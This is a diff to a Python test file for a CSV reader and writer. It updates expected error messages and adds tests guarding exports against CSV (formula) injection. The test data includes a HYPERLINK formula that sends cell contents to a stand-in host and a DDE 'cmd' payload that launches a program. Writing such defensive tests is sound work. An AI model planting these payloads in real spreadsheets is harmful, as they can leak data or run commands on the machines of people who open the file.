@@ -1,5 +1,8 @@
 """Reading and validating a user's CSV file, and writing one back."""
 
+import csv
+import io
+
 import numpy as np
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -70,7 +73,7 @@ def test_more_columns_uses_first_two_numeric_and_notes_it():
     r = C.read_csv("name,a,b,c,label\nann,1,2,3,0\nbob,4,5,6,1\n")
     assert r.dataset.feature_names == ("a", "b")
     np.testing.assert_array_equal(r.dataset.X, [[1, 2], [4, 5]])
-    assert 'Used columns "a" and "b" as features; ignored "name", "c".' in r.notes
+    assert 'Used columns “a” and “b” as features; ignored “name”, “c”.' in r.notes
     assert r.columns == ("name", "a", "b", "c", "label")
 
 
@@ -93,7 +96,7 @@ def test_split_column_sets_test_mask():
 
 def test_split_column_bad_value():
     m = err("a,b,label,split\n1,2,0,train\n3,4,1,validation\n")
-    assert "Row 3" in m and '"split"' in m and "validation" in m and '"train" or "test"' in m
+    assert "Row 3" in m and '“split”' in m and "validation" in m and '"train" or "test"' in m
 
 
 def test_large_finite_numbers_accepted():
@@ -125,28 +128,28 @@ def test_labels_minus_one_one():
     r = C.read_csv("a,b,label\n1,2,-1\n3,4,1\n")
     assert r.dataset.y.tolist() == [0, 1]
     assert r.dataset.class_names == ("-1", "1")
-    assert "Labels mapped: -1 → 0, 1 → 1." in r.notes
+    assert "Labels mapped: “-1” → 0, “1” → 1." in r.notes
 
 
 def test_labels_any_two_numbers():
     r = C.read_csv("a,b,label\n1,2,7\n3,4,3\n5,6,7\n")
     assert r.dataset.y.tolist() == [1, 0, 1]
     assert r.dataset.class_names == ("3", "7")
-    assert "Labels mapped: 3 → 0, 7 → 1." in r.notes
+    assert "Labels mapped: “3” → 0, “7” → 1." in r.notes
 
 
 def test_labels_words_sorted():
     r = C.read_csv("a,b,label\n1,2,yes\n3,4,no\n5,6,yes\n")
     assert r.dataset.y.tolist() == [1, 0, 1]
     assert r.dataset.class_names == ("no", "yes")
-    assert 'Labels mapped: "no" → 0, "yes" → 1.' in r.notes
+    assert 'Labels mapped: “no” → 0, “yes” → 1.' in r.notes
 
 
 def test_iris_species_labels():
     rows = "\n".join(f"{1 + i * 0.1},{2 - i * 0.1},{'versicolor' if i % 2 else 'setosa'}" for i in range(6))
     r = C.read_csv("petal_length_cm,petal_width_cm,species\n" + rows)
     assert r.dataset.class_names == ("setosa", "versicolor")
-    assert 'Labels mapped: "setosa" → 0, "versicolor" → 1.' in r.notes
+    assert 'Labels mapped: “setosa” → 0, “versicolor” → 1.' in r.notes
 
 
 # --- every error ------------------------------------------------------------------------------
@@ -181,10 +184,10 @@ def test_header_required():
     assert "header row with column names is required" in err("1,2,0\n3,4,1\n")
 
 
-@pytest.mark.parametrize("kw, missing", [(dict(label="kind"), '"kind"'), (dict(features=("a", "zz")), '"zz"')])
+@pytest.mark.parametrize("kw, missing", [(dict(label="kind"), '“kind”'), (dict(features=("a", "zz")), '“zz”')])
 def test_named_column_not_found(kw, missing):
     m = err("a,b,label\n1,2,0\n3,4,1\n", **kw)
-    assert "was not found" in m and missing in m and '"a", "b", "label"' in m
+    assert "was not found" in m and missing in m and '“a”, “b”, “label”' in m
 
 
 def test_feature_cannot_be_label():
@@ -206,7 +209,7 @@ def test_trailing_empty_cells_tolerated():
 
 def test_non_numeric_feature():
     m = err("a,b,label\n1,2,0\n3,four,1\n")
-    assert 'Row 3, column "b" holds "four", which is not a number' in m
+    assert 'Row 3, column “b” holds “four”, which is not a number' in m
 
 
 def test_non_numeric_value_truncated():
@@ -222,33 +225,33 @@ def test_decimal_comma_explained():
 @pytest.mark.parametrize("cell", ["", "  "])
 def test_empty_feature_cell(cell):
     m = err(f"a,b,label\n1,2,0\n{cell},4,1\n")
-    assert 'Row 3 has an empty cell in column "a"' in m
+    assert 'Row 3 has an empty cell in column “a”' in m
 
 
 def test_empty_label_cell():
-    assert 'Row 2 has an empty cell in the label column "label"' in err("a,b,label\n1,2,\n3,4,1\n")
+    assert 'Row 2 has an empty cell in the label column “label”' in err("a,b,label\n1,2,\n3,4,1\n")
 
 
 @pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-Infinity", "1e999"])
 def test_non_finite_feature(value):
     m = err(f"a,b,label\n1,2,0\n3,{value},1\n")
-    assert 'Row 3, column "b"' in m and "NaN or infinity" in m
+    assert 'Row 3, column “b”' in m and "NaN or infinity" in m
 
 
 def test_one_class():
     m = err("a,b,label\n1,2,yes\n3,4,yes\n")
-    assert "only one class" in m and '"yes"' in m
+    assert "only one class" in m and '“yes”' in m
 
 
 def test_three_classes_lists_them():
     m = err("a,b,label\n1,2,a\n3,4,b\n5,6,c\n")
-    assert "3 classes" in m and '"a", "b", "c"' in m
+    assert "3 classes" in m and '“a”, “b”, “c”' in m
 
 
 def test_many_classes_lists_five():
     rows = "".join(f"{i},{i},c{i}\n" for i in range(8))
     m = err("a,b,label\n" + rows)
-    assert "8 classes" in m and '"c4"' in m and '"c5"' not in m and "and 3 more" in m
+    assert "8 classes" in m and '“c4”' in m and '“c5”' not in m and "and 3 more" in m
 
 
 def test_too_many_rows():
@@ -337,3 +340,48 @@ def test_arbitrary_text_only_csv_error(text):
     ds = r.dataset
     assert ds.X.shape == (ds.n, 2) and np.all(np.isfinite(ds.X))
     assert set(ds.y.tolist()) == {0, 1}
+
+
+# --- the export opens in a spreadsheet as text (OWASP's CSV injection) and loads back unchanged ---------------
+
+FORMULAS = ['=HYPERLINK("http://e.invalid/?"&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
+            "\tx", "\r=1", "=1+1", "−1", "＝1", "'=quoted", "plain", "a=b"]
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_an_exported_name_never_starts_a_formula_and_reads_back(name):
+    data = C.read_csv(f'{C.spreadsheet_text("x")},"{name.replace(chr(34), chr(34) * 2)}",label\n1,2,a\n3,4,b\n')
+    out = C.to_csv(data.dataset)
+    for cell in _cells(out):  # numbers may start with "-": a spreadsheet reads them as numbers, not formulas
+        assert cell[:1] not in C.FORMULA_START or _is_number(cell), cell
+    back = C.read_csv(out).dataset
+    read = data.dataset.feature_names[1]  # "'=quoted" reads as "=quoted": the apostrophe is the escape's
+    flat = "".join(" " if ord(ch) < 32 else ch for ch in read)  # a control character is written as a space
+    assert back.feature_names == ("x", flat)  # else the name comes back as the file had it
+    np.testing.assert_array_equal(back.X, data.dataset.X)
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@given(st.text(min_size=1, max_size=20))
+def test_any_name_exports_as_spreadsheet_text_and_reads_back(name):
+    name = "".join(" " if ord(ch) < 32 or ch == "\x7f" else ch for ch in name)
+    if not name.strip() or name.strip().lower() in (*C.LABEL_NAMES, C.SPLIT_NAME):
+        return
+    ds = D.Dataset(X=np.array([[1.0, 2.0], [-3.5, 4.0]]), y=np.array([0, 1]), test=np.array([False, True]),
+                 feature_names=(name, "b"), class_names=("0", "1"), source="csv")
+    out = C.to_csv(ds)
+    header = next(csv.reader(io.StringIO(out)))
+    assert all(cell[:1] not in C.FORMULA_START for cell in header), header
+    back = C.read_csv(out).dataset
+    assert back.feature_names == (name, "b")
